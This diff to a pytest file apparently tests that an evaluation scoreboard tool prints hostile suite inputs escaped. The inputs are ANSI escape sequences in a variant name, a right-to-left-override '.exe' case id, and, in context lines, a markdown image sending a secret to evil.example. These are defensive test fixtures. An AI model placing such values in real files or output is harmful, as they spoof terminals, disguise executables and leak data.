@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -62,3 +63,31 @@ def test_the_conversion_report_shows_a_hostile_config_as_text(tmp_path):
     # still shown, as text: the user sees what the config said
     assert "weird![x](http://evil.example/?q=secret)&lt;img src=" in rendered
     assert "\\x1b[2J" in md and "\\u202e" in md
+
+
+def hostile_suite(tmp_path: Path) -> None:
+    cases = [{"id": "plain", "input": "x", "expected": "y"},
+             {"id": "rtl\u202egnp.exe", "input": "z", "expected": "y"}]
+    (tmp_path / "cases.jsonl").write_text("".join(json.dumps(c) + "\n" for c in cases), encoding="utf-8")
+    suite = {"name": "hostile", "cases": "cases.jsonl", "subject": "mock",
+             "variants": {"w\x1b[31mRED\r": {}, "plain": {}}, "graders": ["exact"]}
+    (tmp_path / "suite.json").write_text(json.dumps(suite), encoding="utf-8")
+
+
+def test_validate_prints_variant_names_escaped(tmp_path):
+    hostile_suite(tmp_path)
+    done = scoreboard(tmp_path, "validate", "suite.json")
+    assert done.returncode == 0, done.stdout + done.stderr
+    inert_terminal(done.stdout + done.stderr)
+    assert "w\\x1b[31mRED\\r" in done.stdout
+
+
+def test_plan_prints_variant_names_and_case_ids_escaped(tmp_path):
+    hostile_suite(tmp_path)
+    done = scoreboard(tmp_path, "plan", "suite.json")
+    assert done.returncode == 0, done.stdout + done.stderr
+    inert_terminal(done.stdout + done.stderr)
+    assert "w\\x1b[31mRED\\r: mock" in done.stdout
+    rows = [line for line in done.stdout.splitlines() if line.startswith("    ") and "(exact)" in line]
+    assert [r.split()[0] for r in rows] == ["plain", "rtl\\u202egnp.exe"]
+    assert len({re.search(r"[0-9a-f]{64}", r).start() for r in rows}) == 1  # the hashes stay in one column
